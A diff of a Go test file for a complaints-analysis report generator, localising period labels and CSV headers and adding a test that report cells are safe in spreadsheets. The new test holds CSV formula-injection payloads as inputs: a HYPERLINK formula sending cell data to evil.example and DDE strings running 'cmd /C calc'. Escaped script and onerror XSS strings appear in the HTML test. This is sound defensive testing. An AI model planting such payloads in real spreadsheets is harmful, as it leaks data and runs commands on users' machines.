@@ -14,6 +14,8 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/groeimeesters/klachtd/internal/clean"
 )
 
 var update = flag.Bool("update", false, "rewrite the golden files in testdata")
@@ -45,7 +47,7 @@ func TestTextFigures(t *testing.T) {
 		want []string
 	}{
 		{"nl", []string{
-			"2026H1 (1 januari 2026 t/m 30 juni 2026)",
+			"eerste helft 2026, 1 januari t/m 30 juni",
 			"Klachten ontvangen                     6 (waarvan 1 geanonimiseerd na de bewaartermijn)",
 			"mediaan 25,0, gemiddeld 25,0, langst 40,0", // 10, 20, 30, 40 days
 			"mediaan 20,5, oudste 30,0",                 // 30 and 11 days
@@ -57,16 +59,16 @@ func TestTextFigures(t *testing.T) {
 			"(geen dienst genoemd)        1        0          1             0",
 			"totaal                       6        2          2             2",
 			"- Te late terugkoppeling (2×)",
-			"2025H2          5        2          3    4 van 5 (80%)                  21,5            1",
+			"tweede helft 2025         5        2          3    4 van 5 (80%)                  21,5            1",
 		}},
 		{"en", []string{
-			"2026H1 (1 January 2026 to 30 June 2026)",
+			"first half of 2026, 1 January to 30 June",
 			"Complaints received                      6 (1 of them anonymised after the retention period)",
 			"median 25.0, mean 25.0, longest 40.0",
 			"Decided within the (extended) term       3 of 5 (60%)",
 			"service                 total  justified  unjustified  no verdict",
 			"(no service named)          1          0            1           0",
-			"2026H1           6          2            2   3 of 5 (60%)                  25.0             1",
+			"first half of 2026            6          2            2   3 of 5 (60%)                  25.0             1",
 		}},
 	}
 	for _, tt := range tests {
@@ -82,38 +84,89 @@ func TestTextFigures(t *testing.T) {
 }
 
 func TestCSVParsesBack(t *testing.T) {
-	rows, err := csv.NewReader(strings.NewReader(sample().CSV())).ReadAll()
+	rows, err := csv.NewReader(strings.NewReader(sample().CSV("nl"))).ReadAll()
 	if err != nil {
 		t.Fatalf("parse CSV: %v", err)
 	}
-	if want := []string{"period", "measure", "key", "subkey", "value"}; !cmp.Equal(rows[0], want) {
+	if want := []string{"Periode", "Cijfer", "Dienst of tekst", "Oordeel", "Waarde"}; !cmp.Equal(rows[0], want) {
 		t.Errorf("header: got %q, want %q", rows[0], want)
 	}
 	got := map[string]string{}
 	for _, r := range rows[1:] {
-		if r[0] != "2026H1" {
+		if r[0] != "eerste helft 2026" {
 			t.Errorf("row %q: period %q", r, r[0])
 		}
 		got[r[1]+"|"+r[2]+"|"+r[3]] = r[4]
 	}
 	want := map[string]string{
-		"total||":                            "6",
-		"purged||":                           "1",
-		"median_handling_days||":             "25.0",
-		"deadlines_kept||":                   "3",
-		"deadlines_missed||":                 "2",
-		"extended_staff||":                   "1",
-		"service|Coaching|":                  "3",
-		"service||":                          "1",
-		"service_verdict|Coaching|gegrond":   "1",
-		"service_verdict|Teamtraining|":      "1",
-		"cause|Te late terugkoppeling|":      "2",
-		"trend_total|2025H2|":                "5",
-		"trend_median_handling_days|2025H1|": "12.0",
+		"Klachten ontvangen||":                                    "6",
+		"Geanonimiseerd na de bewaartermijn||":                    "1",
+		"Doorlooptijd in dagen, mediaan||":                        "25,0",
+		"Binnen de (verlengde) termijn beslist||":                 "3",
+		"Niet binnen de termijn beslist||":                        "2",
+		"Termijn verlengd door medewerkers||":                     "1",
+		"Per dienst|Coaching|":                                    "3",
+		"Per dienst|(geen dienst genoemd)|":                       "1",
+		"Per oordeel||geen oordeel":                               "2",
+		"Per dienst en oordeel|Coaching|gegrond":                  "1",
+		"Per dienst en oordeel|Teamtraining|geen oordeel":         "1",
+		"Oorzaak|Te late terugkoppeling|":                         "2",
+		"Trend: klachten|tweede helft 2025|":                      "5",
+		"Trend: mediane doorlooptijd in dagen|eerste helft 2025|": "12,0",
 	}
 	for k, v := range want {
 		if got[k] != v {
 			t.Errorf("CSV %s: got %q, want %q", k, got[k], v)
+		}
+	}
+	for k := range got {
+		if strings.Contains(k, "||") && strings.HasPrefix(k, "Per dienst|") {
+			t.Errorf("CSV row %q has an empty service", k)
+		}
+	}
+	// Nothing measured is empty, not 0,0.
+	empty := Analyse(Input{Period: "2026H2", Start: periodEnd, End: periodEnd.AddDate(0, 6, 0)})
+	rows, _ = csv.NewReader(strings.NewReader(empty.CSV("nl"))).ReadAll()
+	for _, r := range rows {
+		if strings.HasPrefix(r[1], "Doorlooptijd") && r[4] != "" {
+			t.Errorf("CSV of an empty period: %q = %q, want empty", r[1], r[4])
+		}
+	}
+}
+
+// TestCSVCellsInert: a cell that begins with =, +, -, @, a tab or a carriage return (from a
+// complainant's service text or a cause) comes out as text in a spreadsheet (SPEC section 10).
+func TestCSVCellsInert(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+		"+1+1", "\t=1+1", "\r=1+1", "\x1b=1+1", "\u202e=1+1"}
+	r := sample()
+	for i, h := range hostile {
+		r.PerService[h] = i + 1
+		r.Cross[h] = map[string]int{"gegrond": i + 1}
+		r.Causes = append(r.Causes, Count{Text: h, N: 1})
+		r.Measures = append(r.Measures, Count{Text: h, N: 1})
+	}
+	for _, lang := range []string{"nl", "en"} {
+		rows, err := csv.NewReader(strings.NewReader(r.CSV(lang))).ReadAll()
+		if err != nil {
+			t.Fatalf("parse CSV: %v", err)
+		}
+		formulas := 0
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would be a formula", lang, cell)
+				}
+				if strings.HasPrefix(cell, "'") {
+					formulas++
+				}
+				if c, bad := clean.Find(cell); bad {
+					t.Errorf("%s: cell %q holds %U", lang, cell, c)
+				}
+			}
+		}
+		if formulas < 4*len(hostile) { // service, service×verdict, cause, measure
+			t.Errorf("%s: %d cells marked as text, want at least %d", lang, formulas, 4*len(hostile))
 		}
 	}
 }
@@ -185,9 +238,9 @@ func TestHTML(t *testing.T) {
 		want   []string
 		absent []string
 	}{
-		{"nl", []string{`<html lang="nl">`, "<title>Groei &amp; Co — klachtenanalyse 2026H1</title>",
+		{"nl", []string{`<html lang="nl">`, "<title>Groei &amp; Co — klachtenanalyse eerste helft 2026, 1 januari t/m 30 juni</title>",
 			"&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=", `<img src="data:image/png;base64,`,
-			`<tr class="total"><td>totaal</td><td class="n">6</td>`, "Te late terugkoppeling (2×)", "<td>2025H1</td>"},
+			`<tr class="total"><td>totaal</td><td class="n">6</td>`, "Te late terugkoppeling (2×)", "<td>eerste helft 2025</td>"},
 			[]string{"<script>", "<img src=x"}},
 		{"en", []string{`<html lang="en">`, "complaints analysis", "<th>Decided within the (extended) term</th><td>3 of 5 (60%)</td>"},
 			[]string{"<script>"}},
@@ -213,6 +266,7 @@ func TestHTML(t *testing.T) {
 // chart): none may panic, the CSV must parse and the JSON decode.
 func FuzzOutputs(f *testing.F) {
 	f.Add("Coaching", "gegrond", "Oorzaak", int64(0), int64(10), int64(28))
+	f.Add("Training", "", "", int64(5), int64(0), int64(28)) // two open cases
 	f.Add("<script>\n\x00", "\xff", strings.Repeat("é", 300), int64(-1<<40), int64(1<<40), int64(0))
 	f.Fuzz(func(t *testing.T, service, verdict, cause string, rec, closed, due int64) {
 		base := at(1, 0)
@@ -224,13 +278,6 @@ func FuzzOutputs(f *testing.F) {
 		}
 		s.DueAt = s.ReceivedAt.Add(time.Duration(due) * time.Minute)
 		r := Analyse(Input{Period: service, Start: periodStart, End: periodEnd, Stats: []Stat{s, s}}).CompareTo(Summary{Period: verdict})
-		_ = r.Text("nl") + r.Text("en") + r.HTML(cause, "en")
-		if _, err := csv.NewReader(strings.NewReader(r.CSV())).ReadAll(); err != nil {
-			t.Errorf("CSV does not parse: %v", err)
-		}
-		var back Report
-		if err := json.Unmarshal([]byte(r.JSON()), &back); err != nil {
-			t.Errorf("JSON does not decode: %v", err)
-		}
+		checkOutputs(t, r, service, cause)
 	})
 }
